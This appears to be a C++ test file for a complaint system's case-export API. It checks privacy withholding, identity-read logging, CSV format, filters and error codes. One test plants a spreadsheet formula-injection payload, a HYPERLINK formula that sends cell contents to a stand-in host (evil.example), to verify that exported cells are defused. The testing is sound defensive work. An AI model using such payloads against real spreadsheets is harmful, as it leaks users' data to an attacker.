// The case export (GET /api/cases/export) through the real server: Art. 14 in the file as in
// every view (no identity for the respondent unit, every identity shown is logged), CSV that a
// spreadsheet opens safely (RFC 4180, BOM, formula guard), the filters and the errors.
#include <gtest/gtest.h>

#include <chrono>
#include <map>
#include <string>
#include <vector>

#include <httplib.h>
#include <nlohmann/json.hpp>

#include "tests/bot/ComplaintFlow.hpp"
#include "tests/bot/ServiceHarness.hpp"
#include "tests/bot/StaffApiClient.hpp"
#include "tests/bot/WeChatTestClient.hpp"
#include "workflows/LocalTime.hpp"

namespace civicdesk::testing {
namespace {

using nlohmann::json;

constexpr const char* kBom = "\xEF\xBB\xBF";

// The export as it comes over the wire (StaffApiClient reads JSON only).
struct Download {
  int status = 0;
  std::string contentType;
  std::string body;
  std::string disposition;  // Content-Disposition
};

Download download(ServiceHarness& harness, const std::string& token, const std::string& query) {
  httplib::Client http("127.0.0.1", harness.port());
  http.set_read_timeout(30, 0);
  httplib::Headers headers;
  if (!token.empty()) headers.emplace("Authorization", "Bearer " + token);
  auto result = http.Get(("/api/cases/export" + query).c_str(), headers);
  if (!result) return {};
  return {result->status, result->get_header_value("Content-Type"), result->body,
          result->get_header_value("Content-Disposition")};
}

json exportJson(ServiceHarness& harness, const std::string& token, const std::string& query = "") {
  auto got = download(harness, token, query);
  EXPECT_EQ(got.status, 200) << got.body;
  return json::parse(got.body, nullptr, false);
}

// RFC 4180, read strictly: records end with CRLF, quoted fields double their quotes. Fails the
// test on anything else, so a CSV that parses here is one a spreadsheet reads the same way.
std::vector<std::vector<std::string>> parseCsv(const std::string& text) {
  std::vector<std::vector<std::string>> records;
  std::vector<std::string> record;
  std::string field;
  bool quoted = false;
  bool wasQuoted = false;
  for (std::size_t i = 0; i < text.size(); ++i) {
    const char c = text[i];
    if (quoted) {
      if (c != '"') {
        field += c;
      } else if (i + 1 < text.size() && text[i + 1] == '"') {
        field += '"';
        ++i;
      } else {
        quoted = false;
      }
    } else if (c == '"') {
      EXPECT_TRUE(field.empty() && !wasQuoted) << "a quote inside an unquoted field at " << i;
      quoted = wasQuoted = true;
    } else if (c == ',') {
      record.push_back(std::move(field));
      field.clear();
      wasQuoted = false;
    } else if (c == '\r') {
      EXPECT_TRUE(i + 1 < text.size() && text[i + 1] == '\n') << "a bare CR at " << i;
      ++i;
      record.push_back(std::move(field));
      field.clear();
      wasQuoted = false;
      records.push_back(std::move(record));
      record.clear();
    } else {
      EXPECT_NE(c, '\n') << "a bare LF ends a record at " << i;
      field += c;
    }
  }
  EXPECT_FALSE(quoted) << "an unterminated quoted field";
  EXPECT_TRUE(field.empty() && record.empty()) << "the last record does not end with CRLF";
  return records;
}

// The CSV's records after the BOM, each as column name → value.
std::vector<std::map<std::string, std::string>> csvRows(const std::string& body) {
  EXPECT_EQ(body.rfind(kBom, 0), 0u) << "no UTF-8 BOM";
  const auto records = parseCsv(body.substr(3));
  std::vector<std::map<std::string, std::string>> rows;
  if (records.empty()) return rows;
  for (std::size_t r = 1; r < records.size(); ++r) {
    EXPECT_EQ(records[r].size(), records[0].size()) << "record " << r;
    std::map<std::string, std::string> row;
    for (std::size_t i = 0; i < records[0].size() && i < records[r].size(); ++i) {
      row[records[0][i]] = records[r][i];
    }
    rows.push_back(std::move(row));
  }
  return rows;
}

// A complaint about 青溪区教育局 (edu) over WeChat, received by the leading-group office.
std::string fileOverWeChat(ServiceHarness& harness) {
  WeChatTestClient client(harness.port(), kTestToken, kTestAppId);
  std::uint64_t id = 70000;
  for (const auto& input : complaintInputs()) client.sendText("oExport", input, id++);
  return "TS-2026-000001";
}

// A complaint received by letter and registered by `office`; returns its number.
std::string registerLetter(StaffApiClient& office, const std::string& respondentUnit,
                           const json& complainant) {
  json form{{"respondentUnitId", respondentUnit},
            {"ground", 1},
            {"facts", "来信反映该单位未公开本年度预算"},
            {"complainant", complainant}};
  auto created = office.post("/api/cases", {{"how", "letter"}, {"form", form}});
  EXPECT_EQ(created.status, 201) << created.body;
  return created.body.value("case_no", "");
}

json qian() {
  return {{"name", "钱七"}, {"address", "青溪区文化路8号"}, {"phone", "13900139000"}};
}

void setClock(ServiceHarness& harness, const char* shanghai) {
  harness.clock().set(
      workflows::TimePoint(std::chrono::seconds(*workflows::parseShanghaiDateTime(shanghai))));
}

TEST(Complaint_Art14, ExportForRespondentUnitHasNoIdentity) {
  ServiceHarness harness;
  harness.start();
  const std::string caseNo = fileOverWeChat(harness);
  const std::string token = harness.addStaff("王五", "unit_head", "edu");

  auto asJson = exportJson(harness, token);
  ASSERT_EQ(asJson["cases"].size(), 1u) << asJson;
  const auto& row = asJson["cases"][0];
  EXPECT_EQ(row["case_no"], caseNo);
  for (const char* column :
       {"complainant_name", "complainant_phone", "complainant_email", "complainant_address"}) {
    ASSERT_TRUE(row.contains(column)) << column;  // present, so every file has the same shape
    EXPECT_EQ(row[column], "") << column;
  }
  EXPECT_NE(row["complainant_withheld"].get<std::string>().find("Art. 14"), std::string::npos);

  auto asCsv = download(harness, token, "?format=csv");
  ASSERT_EQ(asCsv.status, 200);
  const auto rows = csvRows(asCsv.body);
  ASSERT_EQ(rows.size(), 1u);
  EXPECT_EQ(rows[0].at("complainant_name"), "");
  EXPECT_EQ(rows[0].at("complainant_phone"), "");
  EXPECT_NE(rows[0].at("complainant_withheld").find("Art. 14"), std::string::npos);

  for (const std::string& text : {asJson.dump(), asCsv.body}) {
    EXPECT_EQ(text.find("张三"), std::string::npos);
    EXPECT_EQ(text.find("13800138000"), std::string::npos);
    EXPECT_EQ(text.find("人民路100号"), std::string::npos);
    EXPECT_EQ(text.find("oExport"), std::string::npos);  // the OpenID is an identity too
  }
  EXPECT_EQ(harness.count("SELECT COUNT(*) FROM identity_reads"), 0);
}

TEST(Complaint_Art14, ExportWithIdentityIsLogged) {
  ServiceHarness harness;
  harness.start();
  const std::string caseNo = fileOverWeChat(harness);
  const std::string token = harness.addStaff("李四", "handler", "office");

  auto asJson = exportJson(harness, token);
  ASSERT_EQ(asJson["cases"].size(), 1u) << asJson;
  EXPECT_EQ(asJson["cases"][0]["complainant_name"], "张三");
  EXPECT_EQ(asJson["cases"][0]["complainant_phone"], "13800138000");
  EXPECT_EQ(asJson["cases"][0]["complainant_address"], "青溪区人民路100号");
  EXPECT_EQ(asJson["cases"][0]["complainant_withheld"], "");
  EXPECT_EQ(harness.count("SELECT COUNT(*) FROM identity_reads WHERE purpose='export' AND "
                          "actor='staff:1' AND staff_id=1 AND case_id=(SELECT id FROM cases "
                          "WHERE case_no='" +
                          caseNo + "')"),
            1);

  // Every export that shows it is a read of its own.
  auto asCsv = download(harness, token, "?format=csv");
  ASSERT_EQ(asCsv.status, 200);
  EXPECT_EQ(csvRows(asCsv.body).at(0).at("complainant_name"), "张三");
  EXPECT_EQ(harness.count("SELECT COUNT(*) FROM identity_reads WHERE purpose='export'"), 2);
}

TEST(Complaint_Art14, ExportLogsOneReadPerCaseItShowsAndNoneForACaseAboutTheCallersUnit) {
  ServiceHarness harness;
  harness.start();
  StaffApiClient office(harness.port(), harness.addStaff("李四", "handler", "office"));
  const std::string aboutEdu = registerLetter(office, "edu", qian());
  const std::string aboutHealth = registerLetter(office, "health", qian());
  // A complaint about the office itself: its staff are the respondent here (Art. 14).
  const std::string aboutOffice = registerLetter(office, "office", qian());
  const auto readsBefore = harness.count("SELECT COUNT(*) FROM identity_reads");

  const std::string supervisor = harness.addStaff("孙一", "leading_group_office", "office");
  auto exported = exportJson(harness, supervisor);
  ASSERT_EQ(exported["count"], 3) << exported;
  for (const auto& row : exported["cases"]) {
    const bool respondent = row["case_no"] == aboutOffice;
    EXPECT_EQ(row["complainant_name"], respondent ? "" : "钱七") << row["case_no"];
    EXPECT_EQ(row["complainant_withheld"].get<std::string>().empty(), !respondent);
  }
  EXPECT_EQ(harness.count("SELECT COUNT(*) FROM identity_reads") - readsBefore, 2);
  EXPECT_EQ(harness.count("SELECT COUNT(*) FROM identity_reads WHERE purpose='export' AND "
                          "case_id IN (SELECT id FROM cases WHERE case_no IN ('" +
                          aboutEdu + "','" + aboutHealth + "'))"),
            2);
  EXPECT_EQ(harness.count("SELECT COUNT(*) FROM identity_reads WHERE purpose='export' AND "
                          "case_id=(SELECT id FROM cases WHERE case_no='" +
                          aboutOffice + "')"),
            0);
}

TEST(CaseExport, HoldsExactlyTheCasesTheCallerMayList) {
  ServiceHarness harness;
  harness.start();
  StaffApiClient office(harness.port(), harness.addStaff("李四", "handler", "office"));
  const std::string aboutEdu = registerLetter(office, "edu", qian());
  registerLetter(office, "health", qian());

  EXPECT_EQ(exportJson(harness, harness.addStaff("李四", "handler", "office"))["count"], 2);
  auto edu = exportJson(harness, harness.addStaff("王五", "handler", "edu"));
  ASSERT_EQ(edu["count"], 1);
  EXPECT_EQ(edu["cases"][0]["case_no"], aboutEdu);
  // Another unit's staff, a leader included, list nothing of either (as their case view: 403).
  EXPECT_EQ(exportJson(harness, harness.addStaff("赵六", "handler", "psb"))["count"], 0);
  EXPECT_EQ(exportJson(harness, harness.addStaff("郑十", "leader", "civil"))["count"], 0);
  // A filter narrows what the caller may list; it never widens it.
  EXPECT_EQ(exportJson(harness, harness.addStaff("赵六", "handler", "psb"), "?unit=edu")["count"],
            0);
}

TEST(CaseExport, RowsCarryGroundUnitsDatesAndTheOpenDeadline) {
  ServiceHarness harness;
  harness.start();  // Friday 2026-11-27 10:00
  const std::string caseNo = fileOverWeChat(harness);
  const std::string token = harness.addStaff("李四", "handler", "office");
  auto row = exportJson(harness, token)["cases"][0];
  EXPECT_EQ(row["case_no"], caseNo);
  EXPECT_EQ(row["status"], "registered");
  EXPECT_EQ(row["ground"], 2);  // Art. 4 (2): the dialog's guess, confirmed
  EXPECT_EQ(row["ground_name"], "不及时更新试点领域信息公开内容、信息公开指南和信息公开目录");
  EXPECT_EQ(row["respondent_unit"], "edu");
  EXPECT_EQ(row["respondent_unit_name"], "青溪区教育局");
  EXPECT_EQ(row["receiving_unit"], "office");
  EXPECT_EQ(row["received_date"], "2026-11-27");
  EXPECT_EQ(row["registered_date"], "2026-11-27");
  EXPECT_EQ(row["deadline_rule"], "complaint.acceptance_decision");
  EXPECT_EQ(row["deadline_due"], "2026-12-02");
  EXPECT_EQ(row["deadline_overdue"], false);

  setClock(harness, "2026-12-03T09:00");  // the due day has ended
  auto late = download(harness, token, "?format=csv");
  ASSERT_EQ(late.status, 200);
  const auto rows = csvRows(late.body);
  ASSERT_EQ(rows.size(), 1u);
  EXPECT_EQ(rows[0].at("deadline_due"), "2026-12-02");
  EXPECT_EQ(rows[0].at("deadline_overdue"), "true");
  EXPECT_EQ(rows[0].at("ground"), "2");
  EXPECT_EQ(rows[0].at("respondent_unit_name"), "青溪区教育局");
}

TEST(CaseExport, CsvIsRfc4180WithABomAndTheSameColumnsAsTheJson) {
  ServiceHarness harness;
  harness.start();
  StaffApiClient office(harness.port(), harness.addStaff("李四", "handler", "office"));
  registerLetter(office, "edu",
                 {{"name", "钱七"},
                  {"address", "青溪区文化路8号, 3栋\"东\"单元\n2楼"},
                  {"phone", "13900139000"}});
  const std::string token = harness.addStaff("李四", "handler", "office");
  auto csv = download(harness, token, "?format=csv");
  ASSERT_EQ(csv.status, 200);
  EXPECT_EQ(csv.contentType, "text/csv; charset=utf-8");
  // Saved under the date of the export (Friday 2026-11-27 in the harness).
  EXPECT_EQ(csv.disposition, "attachment; filename=\"cases-20261127.csv\"");
  ASSERT_EQ(csv.body.rfind(kBom, 0), 0u);
  // The address's comma, quotes and newline stay inside one quoted field, quotes doubled.
  EXPECT_NE(csv.body.find(",\"青溪区文化路8号, 3栋\"\"东\"\"单元\n2楼\","), std::string::npos)
      << csv.body;
  const auto records = parseCsv(csv.body.substr(3));
  ASSERT_EQ(records.size(), 2u);
  // Read in the order sent (nlohmann::json would sort the keys).
  const auto asJson = nlohmann::ordered_json::parse(download(harness, token, "").body);
  std::vector<std::string> keys;
  for (const auto& item : asJson["cases"][0].items()) keys.push_back(item.key());
  EXPECT_EQ(records[0], keys);  // one list of columns, in the same order
  EXPECT_EQ(csvRows(csv.body).at(0).at("complainant_address"),
            "青溪区文化路8号, 3栋\"东\"单元\n2楼");

  // Nothing to list: the header alone.
  auto empty = download(harness, token, "?format=csv&status=archived");
  ASSERT_EQ(empty.status, 200);
  EXPECT_EQ(parseCsv(empty.body.substr(3)).size(), 1u);
}

TEST(CaseExport, CsvCellsThatASpreadsheetWouldRunAsAFormulaAreQuotedAsText) {
  ServiceHarness harness;
  harness.start();
  StaffApiClient office(harness.port(), harness.addStaff("李四", "handler", "office"));
  const std::string formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")";
  registerLetter(office, "edu",
                 {{"name", formula},
                  {"address", "+1 青溪区文化路8号"},
                  {"phone", "13900139000"},
                  {"email", "-x@example.com"}});
  registerLetter(office, "health",
                 {{"name", "@SUM(1+1)"}, {"address", "-青溪区"}, {"phone", "13900139001"}});
  const std::string token = harness.addStaff("李四", "handler", "office");
  auto csv = download(harness, token, "?format=csv");
  ASSERT_EQ(csv.status, 200);
  const auto rows = csvRows(csv.body);
  ASSERT_EQ(rows.size(), 2u);
  // Newest first: health, then edu.
  EXPECT_EQ(rows[0].at("complainant_name"), "'@SUM(1+1)");
  EXPECT_EQ(rows[0].at("complainant_address"), "'-青溪区");
  EXPECT_EQ(rows[1].at("complainant_name"), "'" + formula);
  EXPECT_EQ(rows[1].at("complainant_address"), "'+1 青溪区文化路8号");
  EXPECT_EQ(rows[1].at("complainant_email"), "'-x@example.com");
  EXPECT_EQ(rows[1].at("case_no"), "TS-2026-000001");  // our own values are left alone
  // No field of the file starts a formula, quoted or not.
  for (const auto& record : parseCsv(csv.body.substr(3))) {
    for (const auto& field : record) {
      EXPECT_TRUE(field.empty() || std::string("=+-@").find(field[0]) == std::string::npos)
          << field;
    }
  }
  // The JSON is data, not a sheet: the citizen's text as typed.
  auto asJson = exportJson(harness, token);
  EXPECT_EQ(asJson["cases"][1]["complainant_name"], formula);
}

TEST(CaseExport, FiltersByStatusUnitAndReceivedDate) {
  ServiceHarness harness;
  harness.start();  // Friday 2026-11-27 10:00
  StaffApiClient office(harness.port(), harness.addStaff("李四", "handler", "office"));
  const std::string first = registerLetter(office, "edu", qian());
  setClock(harness, "2026-11-30T23:30");  // late on Monday, Shanghai time
  const std::string second = registerLetter(office, "health", qian());
  ASSERT_EQ(office.act(first, "accept").status, 200);
  const std::string token = harness.addStaff("李四", "handler", "office");

  const auto numbers = [&](const std::string& query) {
    std::vector<std::string> out;
    const auto exported = exportJson(harness, token, query);  // outlives the loop
    for (const auto& row : exported["cases"]) out.push_back(row["case_no"]);
    return out;
  };
  using V = std::vector<std::string>;
  EXPECT_EQ(numbers(""), (V{second, first}));  // newest received first
  EXPECT_EQ(numbers("?status=accepted"), V{first});
  EXPECT_EQ(numbers("?status=registered"), V{second});
  EXPECT_EQ(numbers("?unit=health"), V{second});           // the respondent unit
  EXPECT_EQ(numbers("?unit=office"), (V{second, first}));  // the receiving unit
  EXPECT_EQ(numbers("?from=2026-11-30"), V{second});       // both ends are included
  EXPECT_EQ(numbers("?to=2026-11-30"), (V{second, first}));
  EXPECT_EQ(numbers("?to=2026-11-29"), V{first});
  EXPECT_EQ(numbers("?from=2026-11-27&to=2026-11-27"), V{first});
  EXPECT_EQ(numbers("?from=2026-12-01"), V{});
  EXPECT_EQ(numbers("?unit=edu&status=accepted&from=2026-11-01&to=2026-11-30&format=json"),
            V{first});
  auto filters = exportJson(harness, token, "?unit=edu&from=2026-11-01")["filters"];
  EXPECT_EQ(filters["unit"], "edu");
  EXPECT_EQ(filters["from"], "2026-11-01");
  EXPECT_TRUE(filters["to"].is_null());
}

TEST(CaseExport, ArchivedCasesAreExported) {
  ServiceHarness harness;
  harness.start();
  StaffApiClient office(harness.port(), harness.addStaff("李四", "handler", "office"));
  const std::string caseNo = registerLetter(office, "edu", qian());
  ASSERT_EQ(office.act(caseNo, "not-accept", {{"ground", 3}, {"reason", "已申请行政复议"}}).status,
            200);
  ASSERT_EQ(office.act(caseNo, "archive").status, 200);
  const std::string token = harness.addStaff("李四", "handler", "office");
  auto archived = exportJson(harness, token, "?status=archived");
  ASSERT_EQ(archived["count"], 1) << archived;
  EXPECT_EQ(archived["cases"][0]["deadline_rule"], "");
  EXPECT_TRUE(archived["cases"][0]["deadline_overdue"].is_null());
}

TEST(CaseExport, ExportIsNotTakenForACaseNumber) {
  ServiceHarness harness;
  harness.start();
  StaffApiClient office(harness.port(), harness.addStaff("李四", "handler", "office"));
  auto got = office.get("/api/cases/export");
  EXPECT_EQ(got.status, 200) << got.body;
  EXPECT_EQ(got.body["count"], 0);
  EXPECT_EQ(office.get("/api/cases/TS-2026-999999").status, 404);  // the case route still works
}

TEST(CaseExport, WithoutAValidTokenIs401AndBadParametersAre422NamingTheField) {
  ServiceHarness harness;
  harness.start();
  EXPECT_EQ(download(harness, "", "").status, 401);
  EXPECT_EQ(download(harness, "cds_0000", "?format=csv").status, 401);

  const std::string token = harness.addStaff("李四", "handler", "office");
  const auto field = [&](const std::string& query) {
    auto got = download(harness, token, query);
    EXPECT_EQ(got.status, 422) << query << " " << got.body;
    return json::parse(got.body, nullptr, false).value("field", "");
  };
  EXPECT_EQ(field("?format=xlsx"), "format");
  EXPECT_EQ(field("?format="), "format");
  EXPECT_EQ(field("?from=2026-13-01"), "from");
  EXPECT_EQ(field("?from=2026-02-30"), "from");
  EXPECT_EQ(field("?to=27.11.2026"), "to");
  EXPECT_EQ(field("?from=2026-12-01&to=2026-11-30"), "to");
  EXPECT_EQ(field("?status=open"), "status");
  EXPECT_EQ(field("?unit=nosuchunit"), "unit");
  EXPECT_EQ(field("?stauts=accepted"), "stauts");  // a misspelt filter would export everything
  EXPECT_EQ(harness.count("SELECT COUNT(*) FROM identity_reads"), 0);
}

}  // namespace
}  // namespace civicdesk::testing
